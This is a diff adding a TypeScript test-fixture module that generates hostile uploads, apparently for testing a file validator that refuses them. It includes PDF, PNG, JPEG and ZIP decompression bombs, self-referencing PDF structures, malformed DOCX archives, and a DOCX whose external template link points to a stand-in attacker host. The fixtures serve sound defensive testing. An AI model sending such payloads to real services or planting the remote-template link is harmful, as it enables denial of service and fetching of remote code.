@@ -1,0 +1,182 @@
+import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
+import { packedStream, pdf } from './pdf.ts'
+import { png } from './picture.ts'
+import { zip } from './zip.ts'
+
+const MEGABYTE = 1024 * 1024
+
+/** A file that is made to hold a server up, to fill its memory, or to do something to whoever opens it. All of them are refused. */
+export type HostileFile = { is: string; filename: string; make: () => Buffer }
+
+export const HOSTILE_FILES: readonly HostileFile[] = [
+  { is: 'a PDF of overlapping streams', filename: 'a.pdf', make: () => overlappingStreams() },
+  { is: 'a PDF of streams without an end', filename: 'a.pdf', make: () => endlessStreams() },
+  { is: 'a PDF of nested arrays', filename: 'a.pdf', make: () => nested('[', ']', 2_000_000) },
+  { is: 'a PDF of nested dictionaries', filename: 'a.pdf', make: () => nested('<</A', '>>', 500_000) },
+  { is: 'a PDF whose table leads to itself', filename: 'a.pdf', make: () => tableLoop() },
+  { is: 'a PDF whose pages are their own parents', filename: 'a.pdf', make: () => pageLoop() },
+  { is: 'a PDF with an object stream of 200 MB', filename: 'a.pdf', make: () => objectStream(200 * MEGABYTE) },
+  { is: 'a PDF of 400,000 objects', filename: 'a.pdf', make: () => manyObjects() },
+  { is: 'a PDF with a run-length bomb', filename: 'a.pdf', make: () => runLengthBomb() },
+  { is: 'a PDF with a table of two billion rows', filename: 'a.pdf', make: () => longTable() },
+  { is: 'a picture of 480 MB', filename: 'a.png', make: () => deepPicture(7745) },
+  { is: 'a picture of a million pieces', filename: 'a.png', make: () => manyPieces() },
+  { is: 'a picture wider than it may be', filename: 'a.png', make: () => png(8, 8, { width: 30_000, height: 2 }) },
+  { is: 'a JPEG of stuffed bytes', filename: 'a.jpg', make: () => stuffedJpeg() },
+  { is: 'a JPEG of fill bytes', filename: 'a.jpg', make: () => Buffer.alloc(19 * MEGABYTE, 0xff).fill(0xd8, 1, 2) },
+  { is: 'a letter that lies about its size', filename: 'a.docx', make: () => lyingLetter() },
+  { is: 'a letter whose parts overlap', filename: 'a.docx', make: () => overlappingParts() },
+  { is: 'a letter of 65,000 parts', filename: 'a.docx', make: () => manyParts() },
+  { is: 'a letter with a template elsewhere', filename: 'a.docx', make: () => letterWith('attachedTemplate') },
+  { is: 'a letter with nested links', filename: 'a.docx', make: () => nestedLinks() },
+]
+
+/** So many beginnings of a stream, all ending in one that unpacks to so much and then has a wrong checksum. */
+export function overlappingStreams(heads = 5000, size = 127 * MEGABYTE): Buffer {
+  const last = deflateSync(Buffer.alloc(size), { level: 9 })
+  last.writeUInt32BE(1, last.length - 4)
+  const head = Buffer.concat([Buffer.from('stream\n'), Buffer.from([0x78, 0xda, 0x00, 9, 0x00, 0xf6, 0xff])])
+  // each is a stored block that holds the next word `stream`, its line end and its header
+  const heap = Buffer.concat([...Array.from({ length: heads }, () => head), Buffer.from('stream\n'), last])
+  return pdf({ objects: [Buffer.concat([Buffer.from('<< /Length 1 >>\n'), heap, Buffer.from('\nendstream')])] })
+}
+
+function endlessStreams(): Buffer {
+  return pdf({ objects: [`<< /Length 1 >>\n${'stream\nx\u009c'.repeat(1_500_000)}`] })
+}
+
+function nested(open: string, close: string, depth: number): Buffer {
+  return pdf({ catalog: '/Deep 9 0 R', objects: [open.repeat(depth) + close.repeat(depth)] })
+}
+
+function tableLoop(): Buffer {
+  const plain = pdf().toString('latin1')
+  const start = /startxref\n(\d+)/.exec(plain)?.[1] ?? ''
+  return pdf({ trailer: `/Prev ${start}`, pages: 0 })
+}
+
+function pageLoop(): Buffer {
+  return Buffer.from(pdf().toString('latin1').replace('/Kids [3 0 R] /Count 1 ', '/Kids [2 0 R] /Count 9 '), 'latin1')
+}
+
+function objectStream(size: number): Buffer {
+  return pdf({ objects: [packedStream('/Type /ObjStm /N 1 /First 4', Buffer.alloc(size))] })
+}
+
+function manyObjects(): Buffer {
+  const rows = Array.from({ length: 400_000 }, (_, at) => `[${at}]`)
+  return pdf({ catalog: '/Many 9 0 R', objects: [`[${rows.join('')}]`] })
+}
+
+/** Packed by run length, two bytes for 128: 10 MB stand for 640 MB. */
+export function runLengthBomb(): Buffer {
+  const packed = Buffer.alloc(10 * MEGABYTE)
+  for (let at = 0; at < packed.length; at += 2) packed[at] = 129
+  const head = `<< /Type /XRef /Size 8 /W [1 2 1] /Root 1 0 R /Filter /RunLengthDecode /Length ${packed.length} >>\nstream\n`
+  const start = 9
+  return Buffer.concat([
+    Buffer.from(`%PDF-1.7\n1 0 obj\n${head}`),
+    packed,
+    Buffer.from(`\nendstream\nendobj\nstartxref\n${start}\n%%EOF\n`),
+  ])
+}
+
+function longTable(): Buffer {
+  return Buffer.from(pdf().toString('latin1').replace('xref\n0 ', 'xref\n0 200000000'), 'latin1')
+}
+
+/** For 7,745 pixels 466 kB that unpack to 480 MB: 16 bits for each of four channels. `said`: how large its head says it is. */
+export function deepPicture(side: number, said = side): Buffer {
+  const whole = png(8, 8)
+  const header = Buffer.from(whole.subarray(16, 29))
+  header.writeUInt32BE(said, 0)
+  header.writeUInt32BE(said, 4)
+  header.writeUInt8(16, 8)
+  header.writeUInt8(6, 9)
+  const rows = deflateSync(Buffer.alloc((1 + side * 8) * side), { level: 9 })
+  return pngOf([
+    ['IHDR', header],
+    ['IDAT', rows],
+    ['IEND', Buffer.alloc(0)],
+  ])
+}
+
+function manyPieces(): Buffer {
+  const header = Buffer.from(png(8, 8).subarray(16, 29))
+  const piece = chunk('IDAT', Buffer.alloc(0))
+  const pieces = Buffer.alloc(piece.length * 1_000_000)
+  for (let at = 0; at < pieces.length; at += piece.length) piece.copy(pieces, at)
+  return Buffer.concat([png(8, 8).subarray(0, 8), chunk('IHDR', header), pieces, chunk('IEND', Buffer.alloc(0))])
+}
+
+function pngOf(chunks: readonly [string, Buffer][]): Buffer {
+  return Buffer.concat([png(8, 8).subarray(0, 8), ...chunks.map(([name, data]) => chunk(name, data))])
+}
+
+function chunk(name: string, data: Buffer): Buffer {
+  const named = Buffer.concat([Buffer.from(name), data])
+  const framed = Buffer.alloc(8 + named.length)
+  framed.writeUInt32BE(data.length, 0)
+  named.copy(framed, 4)
+  framed.writeUInt32BE(crc32(named), framed.length - 4)
+  return framed
+}
+
+/** A picture that never ends: a scan of stuffed bytes alone. */
+function stuffedJpeg(): Buffer {
+  const head = Buffer.from([
+    0xff, 0xd8, 0xff, 0xc0, 0, 11, 8, 0, 8, 0, 8, 1, 1, 0x11, 0, 0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0,
+  ])
+  const scan = Buffer.alloc(19 * MEGABYTE)
+  for (let at = 0; at < scan.length; at += 2) scan[at] = 0xff
+  return Buffer.concat([head, scan])
+}
+
+const TYPES: [string, string] = ['[Content_Types].xml', '<Types/>']
+const TEXT: [string, string] = ['word/document.xml', '<w:document/>']
+
+/** A part that the directory calls 1,000 bytes. */
+export function lyingLetter(size = 300 * MEGABYTE): Buffer {
+  return zip([TYPES, ['word/document.xml', deflateRawSync(Buffer.alloc(size), { level: 9 }), 1000]])
+}
+
+/** One heap of packed zeros that a thousand entries of the directory point to. */
+function overlappingParts(): Buffer {
+  const heap = deflateRawSync(Buffer.alloc(4 * MEGABYTE), { level: 9 })
+  const one = zip([TYPES, TEXT, ['word/0000.xml', heap, 4 * MEGABYTE]])
+  const end = one.length - 22
+  const start = one.readUInt32LE(end + 16)
+  const list = one.subarray(start, end)
+  const last = list.subarray(list.lastIndexOf('PK\u0001\u0002'))
+  const more = Array.from({ length: 1000 }, (_, at) => {
+    const entry = Buffer.from(last)
+    entry.write(String(at + 1).padStart(4, '0'), 46 + 'word/'.length)
+    return entry
+  })
+  const directory = Buffer.concat([list, ...more])
+  const tail = Buffer.from(one.subarray(end))
+  tail.writeUInt16LE(1003, 8)
+  tail.writeUInt16LE(1003, 10)
+  tail.writeUInt32LE(directory.length, 12)
+  return Buffer.concat([one.subarray(0, start), directory, tail])
+}
+
+function manyParts(): Buffer {
+  return zip([TYPES, TEXT, ...Array.from({ length: 65_000 }, (_, at): [string, string] => [`word/${at}.xml`, ''])])
+}
+
+/** A letter with a relationship of this kind that leads to another machine. */
+export function letterWith(type: string, target = 'https://evil.example/x.dotm'): Buffer {
+  return letterWithLinks(
+    `<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
+  )
+}
+
+export function letterWithLinks(links: string, at = 'word/_rels/settings.xml.rels'): Buffer {
+  const namespace = 'http://schemas.openxmlformats.org/package/2006/relationships'
+  return zip([TYPES, TEXT, [at, `<?xml version="1.0"?><Relationships xmlns="${namespace}">${links}</Relationships>`]])
+}
+
+function nestedLinks(): Buffer {
+  return letterWithLinks('<a>'.repeat(3_000_000))
+}
